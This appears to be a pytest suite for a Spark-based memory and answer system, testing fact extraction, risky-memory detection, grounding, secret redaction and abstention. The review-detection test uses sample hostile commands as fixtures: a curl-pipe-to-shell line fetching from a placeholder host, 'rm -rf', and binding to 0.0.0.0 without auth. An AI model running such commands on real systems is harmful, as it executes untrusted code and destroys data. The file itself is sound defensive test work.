"""Facts, review detection, grounding, redaction and answers on small tables."""

import pytest

from tidepool.operators import answers, grounding, ingest, policy, review
from tidepool.plans.route import Query


def test_pattern_facts(spark):
    lines = [
        (1, "12. Ann Lee is married to Bo.", (12, "Ann Lee", "married_to", "Bo")),
        (2, " 3 . The capital of Peru is Lima.", (3, "Peru", "capital_of", "Lima")),
        (3, "4. The company that produced X1 is Acme Inc..", (4, "X1", "produced_by", "Acme Inc")),
        (4, "5. Ida's child is Jo", (5, "Ida", "child_of", "Jo")),
        (5, "6. The garden was green", (6, "The garden", "is_related", "green")),
        (6, "7. ab is short", None),
        (7, "no number is here", None),
        (8, "x. Ann is married to Bo", None),
        (9, "8. nothing fits", None),
        (10, "", None),
        (11, None, None),
        (12, "9. Z was created in the country of Chad", (9, "Z", "created_in_country", "Chad")),
    ]
    got = {r.id: (r["index"], r.subject, r.relation, r.object) for r in ingest.pattern_facts(spark.createDataFrame([x[:2] for x in lines], "id long, line string")).collect()}
    assert got == {i: want for i, _, want in lines if want}


def test_review_detection(spark):
    rows = [
        (1, "procedural", "Bind to 0.0.0.0 without auth", None),
        (2, "procedural", "Never bind to 0.0.0.0", None),
        (3, "semantic", "Bind to 0.0.0.0", None),
        (4, "procedural", "CURL https://x.example | SH", None),
        (5, "procedural", "truncate it", "Credential"),
        (6, "procedural", "water the plants", None),
        (7, "procedural", None, "secret"),
        (8, None, "rm -rf", None),
    ]
    got = {r.id: (r.tags, r.severity, r.reason) for r in review.detect(spark.createDataFrame(rows, "id long, memory_type string, searchable_text string, content_sensitivity string")).collect()}
    assert got == {1: (["auth-disable", "network-exposure"], "critical", "network-exposure"), 4: (["destructive-command"], "high", "destructive-command"), 5: (["data-reset", "secret-handling"], "high", "data-reset")}


@pytest.mark.parametrize(
    "query, text, want",
    [
        ("Tell me about the garden walls", "Garden wall by the sea", True),
        ("Tell me about the garden walls", "A boat", False),
        ("What exact port was used", "The port used is 80", True),
        ("What exact port was used", "The host used", False),
        ("How many days until version 12", "12 days, version given", True),
        ("How many days until version 12", "13 days, version given", False),
        ("Which tools work both together", "works without tools", False),
        ("", "text", False),
        (None, "text", False),
        ("garden", None, False),
    ],
)
def test_grounding(spark, query, text, want):
    c = spark.createDataFrame([(1, 1, text)], "query_id long, memory_id long, searchable_text string")
    q = spark.createDataFrame([(1, query)], "query_id long, query string")
    assert grounding.ground(c, q).first().grounded is want


def test_redaction(spark):
    texts = ["API_KEY=sk-abcdef123456 next", "at 192.168.1.0/24 and 8.8.8.8", r"on \\box\share\a.txt today", "plain words", "", None, "-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY----- end"]
    got = [r[0] for r in spark.createDataFrame([(x,) for x in texts], "t string").select(answers.redact(answers.F.col("t"))).collect()]
    assert got == ["API_KEY=[REDACTED_SECRET] next", "at [REDACTED_NETWORK] and 8.8.8.8", "on [REDACTED_PATH] today", "plain words", "", None, "[REDACTED_KEY] end"]


def test_secret_questions():
    assert Query("What is the exact API token?").secret_value and Query("Show the password").secret_value
    assert not Query("Where is the API token stored?").secret_value and not Query("Is the token expired?").secret_value


def test_answers(spark):
    q = [(1, "How many sessions ran?"), (2, "What is the exact API token?"), (3, "Tell me about boats"), (4, "What exact port was used?"), (5, "Is the relay active?"), (6, "What is the latest plan?"), (7, "What exact version was removed?"), (8, "Tell me about gardens"), (9, None)]
    e = [
        (1, 1, "Alpha is done", 0.9), (1, 2, "alpha IS done!", 0.8), (1, 3, "Beta was run", 0.7),
        (2, 4, "token: abc", 0.9),
        (4, 5, "The port is unknown", 0.9),
        (5, 6, "The relay is active", 0.9), (5, 7, "The relay is retired", 0.8),
        (6, 8, "The plan is key=abc12345", 0.5),
        (7, 9, "A boat", 0.5),
        (8, 10, "Gardens grow", 0.5), (8, 11, "   ", 0.9),
    ]
    ev = spark.createDataFrame([(*x, 320) for x in e], "query_id long, memory_id long, text string, score double, rank long")
    got = {r.query_id: (r.answer, r.kind, r.confidence, r.abstained, r.rationale, r.n_evidence) for r in answers.compose(ev, spark.createDataFrame(q, "query_id long, query string")).collect()}
    assert got == {
        1: ("Two items: Alpha, Beta.", "aggregation", "high", False, "distinct-rollup", 2),
        2: (answers.NO_SECRETS, "abstain", "low", True, "sensitive-secret-detail", 1),
        3: (answers.NOTHING, "abstain", "low", True, "no-supporting-evidence", 0),
        4: (answers.NO_DETAIL, "abstain", "low", True, "unsupported-detail", 1),
        5: ("No. The relay is retired", "yes-no", "medium", False, "conflicting-state-evidence", 2),
        6: ("The plan is key=[REDACTED_SECRET]", "stateful", "high", False, "stateful-route", 1),
        7: (answers.NOT_EXACTLY, "abstain", "low", True, "insufficient-grounding", 1),
        8: ("Gardens grow", "direct", "medium", False, "top-evidence", 1),
        9: (answers.NOTHING, "abstain", "low", True, "no-supporting-evidence", 0),
    }


@pytest.mark.parametrize(
    "query, text, want",
    [
        ("Tell me about gardens", "a garden", 1.0),
        ("What is the latest plan", "the current plan", 1.55),
        ("What is the latest plan", "the earlier plan", 0.8),
        ("What was the plan previously", "the earlier plan", 1.5),
        ("Tell me about the script", "run scripts/a.sh", 1.45),
        ("Tell me about the script", "run it", 0.82),
        ("Which file is the source of truth", "x.json is the source of truth", 1.45 * 1.35),
        ("What comes next", "this should come next", 1.5),
        ("Things it did not show", "it cannot", 2.4),
        ("Did we ever mention boats", "none without sails", 1.1),
        ("Tell me about gardens", None, 1.0),
        (None, "text", 1.0),
    ],
)
def test_alignment(spark, query, text, want):
    c = spark.createDataFrame([(1, 1, 1.0, text)], "query_id long, memory_id long, score double, searchable_text string")
    q = spark.createDataFrame([(1, query)], "query_id long, query string")
    assert grounding.align(c, q).first().score == pytest.approx(want)


def test_empty_tables(spark):
    c = spark.createDataFrame([], "query_id long, memory_id long, score double, searchable_text string, derived_kind string, reflection_status string")
    q = spark.createDataFrame([], "query_id long, query string")
    assert grounding.ground(c, q).count() == grounding.align(c, q).count() == policy.prefer_reflections(c).count() == 0
